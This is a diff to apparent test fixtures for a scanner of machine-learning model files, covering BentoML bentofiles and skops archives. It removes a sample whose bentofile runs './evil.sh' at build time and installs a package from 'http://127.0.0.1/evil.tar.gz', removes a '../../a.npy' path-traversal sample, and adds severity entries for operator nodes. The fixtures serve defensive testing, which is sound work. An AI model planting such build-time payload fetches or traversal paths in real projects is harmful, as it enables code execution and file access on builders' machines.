@@ -241,15 +241,7 @@ def _bento() -> Iterator[Sample]:
             )
         },
     )
-    yield Sample(
-        family,
-        "bentofile, setup script",
-        "the script runs in the build",
-        {
-            "bentofile.yaml": b"service: 'service:svc'\ndocker:\n  setup_script: ./evil.sh\npython:\n  packages: ['http://127.0.0.1/evil.tar.gz']\n"
-        },
-        "medium",
-    )
+    # A bentofile.yaml is for whoever builds the service, and nothing that loads one reads it.
 
 
 def _skops() -> Iterator[Sample]:
@@ -291,6 +283,9 @@ def _skops() -> Iterator[Sample]:
         "unknown loader": "medium",
         "joblib fallback": "medium",
         "json node": "quiet",
+        # skops makes the function, which nothing in the archive calls.
+        "operator": "medium",
+        "operator, attrgetter": "medium",
         "dtype": "quiet",
     }
     for name, each in nodes.items():
@@ -322,10 +317,4 @@ def _skops() -> Iterator[Sample]:
         {"a.skops": zipped(Entry("schema.json", b'{"__class__": "a", "__module__": "os", "__loader__"'))},
         "not-checked",
     )
-    yield Sample(
-        family,
-        "file outside",
-        "the loader opens the member",
-        {"a.skops": archive(node("numpy", "ndarray", "NdArrayNode", type="numpy", file="../../a.npy"))},
-        "medium",
-    )
+    # Of a file that a node names, skops reads the member of the archive: none is outside.
